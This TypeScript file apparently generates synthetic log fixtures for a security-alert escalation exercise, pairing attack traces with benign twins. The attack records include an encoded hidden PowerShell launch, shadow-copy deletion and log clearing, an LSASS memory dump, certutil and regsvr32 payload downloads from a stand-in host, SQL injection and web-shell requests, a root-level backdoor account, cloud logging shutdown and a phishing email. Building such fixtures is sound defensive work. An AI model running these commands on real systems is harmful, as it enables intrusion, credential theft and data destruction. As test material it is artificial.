import type { ExerciseWorld } from "../bases/base-case.ts";
import { linesOf } from "../bases/base-case.ts";
import { alerted, call, letter, logLine, logon, request, service, started } from "./records.ts";
import type { AttackScenario } from "./scenario.ts";

const windows = (...records: readonly object[]): ExerciseWorld => ({ evidence: [{ path: "windows.json", text: linesOf(records) }] });
const text = (path: string, ...lines: readonly string[]): ExerciseWorld => ({ evidence: [{ path, text: lines.join("") }] });
const trail = (...calls: readonly object[]): ExerciseWorld => text("trail.json", JSON.stringify({ Records: calls }));
const times = <T>(count: number, make: (at: number) => T): T[] => Array.from({ length: count }, (_, at) => make(at));

const workstation = "WS-118.example.test";
const server = "FS-1.example.test";
const word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const outsider = "198.51.100.61";
const minute = 60;

const onWindows: readonly AttackScenario[] = [
  {
    id: "document-to-task",
    trade: "endpoint",
    loudness: "quiet",
    attack: windows(
      started(0, workstation, "nadia", "cmd.exe", "cmd.exe /c powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", word),
      started(9 * minute, workstation, "nadia", "schtasks.exe", "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon"),
      started(47 * minute, workstation, "nadia", "whoami.exe", "whoami /all", "cmd.exe"),
    ),
    twin: windows(
      started(0, workstation, "nadia", word, `"${word}" /n C:\\Users\\nadia\\Documents\\plan.docx`),
      started(9 * minute, workstation, "nadia", "schtasks.exe", "schtasks /query /tn Updater"),
    ),
  },
  {
    id: "encryption",
    trade: "endpoint",
    loudness: "noisy",
    attack: windows(
      started(0, server, "svc-files", "vssadmin.exe", "vssadmin delete shadows /all /quiet", "cmd.exe"),
      started(4, server, "svc-files", "bcdedit.exe", "bcdedit /set {default} recoveryenabled no", "cmd.exe"),
      started(6, server, "svc-files", "wbadmin.exe", "wbadmin delete catalog -quiet", "cmd.exe"),
      started(9, server, "svc-files", "wevtutil.exe", "wevtutil cl Security", "cmd.exe"),
    ),
    twin: windows(
      started(0, server, "svc-backup", "vssadmin.exe", "vssadmin list shadows", "cmd.exe"),
      started(9, server, "svc-backup", "wbadmin.exe", "wbadmin get versions", "cmd.exe"),
    ),
  },
  {
    id: "memory-to-server",
    trade: "endpoint",
    loudness: "quiet",
    attack: windows(
      started(
        0,
        workstation,
        "nadia",
        "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\a.dmp full",
      ),
      logon(22 * minute, server, "administrator", "10.30.0.44", true),
      service(23 * minute, server, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
    ),
    twin: windows(
      logon(0, server, "administrator", "10.30.0.44", true),
      service(9 * minute, server, "Backup Agent", '"C:\\Program Files\\Backup\\agent.exe"'),
    ),
  },
  {
    id: "one-password-for-all",
    trade: "identity",
    loudness: "noisy",
    attack: windows(
      ...times(28, (at) => logon(at * 3, server, `person-${at}`, outsider, false)),
      logon(90, server, "person-28", outsider, true),
    ),
    twin: windows(
      ...times(2, (at) => logon(at * 9, server, "person-3", "10.30.0.44", false)),
      logon(30, server, "person-3", "10.30.0.44", true),
    ),
  },
  {
    id: "own-tools",
    trade: "endpoint",
    loudness: "quiet",
    attack: windows(
      started(
        0,
        workstation,
        "nadia",
        "certutil.exe",
        "certutil -urlcache -split -f http://203.0.113.9/a.txt C:\\Users\\Public\\a.dll",
        "cmd.exe",
      ),
      started(31 * minute, workstation, "nadia", "regsvr32.exe", "regsvr32 /s /u /i:http://203.0.113.9/b.sct scrobj.dll", "cmd.exe"),
    ),
    twin: windows(
      started(0, workstation, "nadia", "certutil.exe", "certutil -hashfile C:\\Install\\office.msi SHA256", "cmd.exe"),
      started(31 * minute, workstation, "nadia", "regsvr32.exe", 'regsvr32 /s "C:\\Program Files\\Scanner\\scan.dll"', "cmd.exe"),
    ),
  },
];

const outsideWindows: readonly AttackScenario[] = [
  {
    id: "guessed-and-settled",
    trade: "server",
    loudness: "noisy",
    attack: text(
      "auth.log",
      ...times(60, (at) => logLine(at * 2, "sshd[1201]", `Failed password for deploy from ${outsider} port ${40_000 + at} ssh2`)),
      logLine(130, "sshd[1301]", `Accepted password for deploy from ${outsider} port 50222 ssh2`),
      logLine(190, "sudo", "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 backup2"),
      logLine(191, "useradd[1400]", "new user: name=backup2, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"),
    ),
    twin: text(
      "auth.log",
      logLine(0, "sshd[1201]", "Failed password for deploy from 10.30.0.44 port 40000 ssh2"),
      logLine(9, "sshd[1201]", "Accepted password for deploy from 10.30.0.44 port 40000 ssh2"),
      logLine(60, "sudo", "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart web"),
    ),
  },
  {
    id: "administrator-made",
    trade: "cloud",
    loudness: "quiet",
    attack: trail(
      call(0, "reports", "sts", "GetCallerIdentity", {}, outsider),
      call(17 * minute, "reports", "iam", "CreateUser", { userName: "support-2" }, outsider),
      call(
        18 * minute,
        "reports",
        "iam",
        "AttachUserPolicy",
        { userName: "support-2", policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" },
        outsider,
      ),
      call(19 * minute, "reports", "iam", "CreateAccessKey", { userName: "support-2" }, outsider),
      call(40 * minute, "reports", "cloudtrail", "StopLogging", { name: "main" }, outsider),
    ),
    twin: trail(
      call(0, "reports", "sts", "GetCallerIdentity", {}, "10.30.0.44"),
      call(17 * minute, "reports", "s3", "ListBuckets", {}, "10.30.0.44"),
      call(18 * minute, "reports", "s3", "GetBucketLocation", { bucketName: "reports" }, "10.30.0.44"),
    ),
  },
  {
    id: "page-to-shell",
    trade: "web",
    loudness: "noisy",
    attack: text(
      "access.log",
      ...times(40, (at) => request(at, outsider, `/index.php?id=${at}%27%20UNION%20SELECT%20${at},2,3--%20-`, 500, "sqlmap/1.8")),
      request(70, outsider, "/uploads/a.php?cmd=whoami", 200, "curl/8.5"),
      request(80, outsider, "/uploads/a.php?cmd=cat%20/etc/passwd", 200, "curl/8.5"),
    ),
    twin: text(
      "access.log",
      ...times(40, (at) => request(at * 5, "10.30.0.9", "/health", 200, "monitor/2.1")),
      request(201, "10.30.0.9", "/orders?id=4", 200, "Mozilla/5.0 (X11; Linux x86_64)"),
    ),
  },
  {
    id: "password-asked-for",
    trade: "mail",
    loudness: "quiet",
    attack: text(
      "letter.eml",
      letter(
        '"IT Service" <it-service@login-example.test>',
        "Your mailbox will be closed today",
        "Dear user,\nyour password expires in two hours. Verify your account now: http://198.51.100.20/login/verify.php\nIT Service",
        false,
      ),
    ),
    twin: text(
      "letter.eml",
      letter(
        '"Nadia" <nadia@example.test>',
        "Minutes of Monday",
        "Hello all,\nbelow are the minutes of Monday. See you on Thursday.\nNadia",
        true,
      ),
    ),
  },
  {
    id: "many-small-signs",
    trade: "alerts",
    loudness: "quiet",
    attack: text(
      "alerts.jsonl",
      linesOf([
        alerted(0, "edr", "low", "Script started from a mail attachment", ["T1566.001", "T1059.001"]),
        alerted(30 * minute, "edr", "low", "Credential files of a browser read", ["T1555.003"]),
        alerted(95 * minute, "proxy", "low", "Upload to a file service that nobody uses", ["T1567.002"]),
      ]),
    ),
    twin: {
      ...text(
        "alerts.jsonl",
        linesOf([
          alerted(0, "edr", "low", "Unusual parent of a program", []),
          alerted(9 * minute, "edr", "low", "Unusual parent of a program", []),
        ]),
      ),
      inventory: {
        path: "inventory.json",
        text: JSON.stringify({
          assets: [{ name: "ws-118", criticality: "low", role: "workstation" }],
          identities: [{ name: "nadia", role: "developer", "usual-hosts": ["ws-118"] }],
          changes: [
            {
              id: "CHG-2",
              summary: "tools are tested",
              from: "2026-03-09T08:00:00Z",
              to: "2026-03-09T18:00:00Z",
              assets: ["ws-118"],
              identities: ["nadia"],
            },
          ],
          accepted: [{ rule: "Unusual parent of a program", because: "ordinary here", by: "rhea", until: "2026-12-31T00:00:00Z" }],
        }),
      },
    },
  },
];

/** The attacks of the escalation exercise, in several trades. */
export function attackScenarios(): readonly AttackScenario[] {
  return [...onWindows, ...outsideWindows];
}
